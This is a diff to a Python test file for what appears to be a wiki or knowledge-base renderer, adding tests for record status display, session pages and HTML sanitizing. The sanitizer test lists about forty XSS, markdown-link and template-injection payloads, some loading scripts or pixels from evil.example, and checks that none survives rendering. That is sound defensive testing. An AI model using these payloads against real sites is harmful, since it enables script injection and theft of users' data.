@@ -206,6 +206,12 @@ def test_a_superseded_record_leads_to_its_successors_before_anything_else() -> N
     assert "No longer in force" not in known["anchors/global/D003.md"].text
 
 
+def test_a_record_whose_successor_is_only_proposed_still_holds() -> None:
+    known = made(record("D001", status="accepted"), record("D002", status="proposed", supersedes=("D001",)))
+    text = known["anchors/global/D001.md"].text
+    assert "Still in force. To be replaced by:" in text and "No longer in force" not in text
+
+
 def test_records_that_replace_each_other_are_shown_all_the_same() -> None:
     known = made(record("D001", supersedes=("D002",)), record("D002", supersedes=("D001",)))
     assert known["anchors/global/D001.md"].text.count("kb-chain") == 1
@@ -471,6 +477,20 @@ def test_a_session_page_shows_the_compact_form() -> None:
     assert seen.cells == ["Project", "shop", "Time", "2026-05-03T10:10:10", "Task", "修复重复扣款"]
     assert "../anchors/projects/shop/D001.md" in seen.hrefs
     assert "sessions/index-2.md" in known
+    assert seen.headings == ["b", "Compact form"]
+    listed = Seen(html_of(known["sessions/index.md"], known))
+    assert listed.cells[4:8] == ["index", "shop", "2026-05-03T10:10:10", "修复重复扣款"]
+
+
+def test_a_session_page_shows_all_forms_and_no_endless_one() -> None:
+    archive = Archive(Archived("a"), {"compact": "short", "expanded": "long " * 30_000, "dcp-report": "told"})
+    page = next(page for page in pages(wiki([], Told(sessions=[archive]), Config())) if page.uri == "sessions/a.md")
+    assert [part for part in page.parts if part.startswith("##")] == [
+        "## Compact form",
+        "## Expanded form",
+        "## Report",
+    ]
+    assert "The rest is in the archive." in page.parts and len(page.text) < 110_000
 
 
 def test_the_navigation_names_listing_pages_only() -> None:
@@ -600,6 +620,68 @@ def test_no_text_can_act_or_swallow_what_follows(title: str, body: str, tag: str
     own = Seen(html_of(known["anchors/global/D001.md"], known))
     assert "Cited by" in own.headings
     assert "Notes by people" in own.headings and "Why" in own.headings
+
+
+PAYLOADS = """\
+<script src=//evil.example/x.js></script>
+<ScRiPt>alert(1)</sCrIpT>
+<img src="https://evil.example/pixel.gif">
+<img/src/onerror=alert(1)>
+<svg onload=alert(1)>
+<svg><animate onbegin=alert(1) attributeName=x></svg>
+<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
+<iframe srcdoc="<script>alert(1)</script>"></iframe>
+<object data="data:text/html;base64,PHNjcmlwdD4="></object>
+<a href="javascript:alert(1)">x</a>
+<a href=" &#106;avascript:alert(1)">x</a>
+<body onload=alert(1)>
+<meta http-equiv="refresh" content="0;url=https://evil.example">
+<link rel=stylesheet href=https://evil.example/x.css>
+<style>@import "https://evil.example/x.css";</style>
+<base href="https://evil.example/">
+<form action=https://evil.example><input name=q autofocus onfocus=alert(1)>
+<!--><img src=x onerror=alert(1)>-->
+</script><script>alert(1)</script>
+</textarea></title><script>alert(1)</script>
+![pixel](https://evil.example/pixel.gif)
+![pixel][p]  [p]: https://evil.example/pixel.gif
+[x](javascript:alert(1))
+[x](JaVaScRiPt:alert(1))
+[x](&#x6A;avascript:alert(1))
+[x](<java\tscript:alert(1)>)
+[x](data:text/html,<script>alert(1)</script>)
+[x](vbscript:msgbox(1))
+[x](https://a.example "onmouseover=alert(1) ")
+[x](https://a.example/"onmouseover="alert(1))
+<https://a.example/"onclick=alert(1)>
+<javascript:alert(1)>
+`<script>alert(1)</script>`
+```html" onload="alert(1)
+[D001"onclick=alert(1)]
+[[D001|<img src=x onerror=alert(1)>]]
+[[D001" onclick="alert(1)]]
+href="kb:javascript:alert(1)"
+{{ config.__class__ }}{% include 'x' %}
+"""
+
+
+@pytest.mark.parametrize("payload", PAYLOADS.splitlines())
+def test_no_known_attack_survives_anywhere(payload: str) -> None:
+    bad = Record(
+        "D002", "decision", payload, tags=(payload,), impact=(payload,), sources=(payload,), claims={payload: payload},
+        supersedes=(payload,), coexists_with={payload: payload}, user=payload, date=payload, path="p.md",
+        uid="U2", confirmed=payload, extra={"aliases": [payload]}, sections=(Section("", payload, payload),),
+    )  # fmt: skip
+    version = Version(payload, payload, payload, payload, payload, f"{payload}\nold", f"{payload}\nnew")
+    known = made(record("D001", decision="[D002]"), bad, story=Story({"p.md": (version,)}), today=TODAY)
+    for page in known.values():
+        seen = Seen(html_of(page, known))
+        assert seen.tags <= TAGS
+        assert seen.attributes <= ATTRIBUTES
+        assert all(re.match(r"(?i)https?://|mailto:|#|[^:]+$", href) for href in seen.hrefs)
+    for places in permalinks(known.wiki).values():
+        led = Seen(forwarding(known.wiki, "x/index.html", places, lambda n: "y.html"))
+        assert not led.tags & {"script", "img", "svg", "iframe", "style"} and set(led.hrefs) <= {"y.html"}
 
 
 @pytest.mark.parametrize(
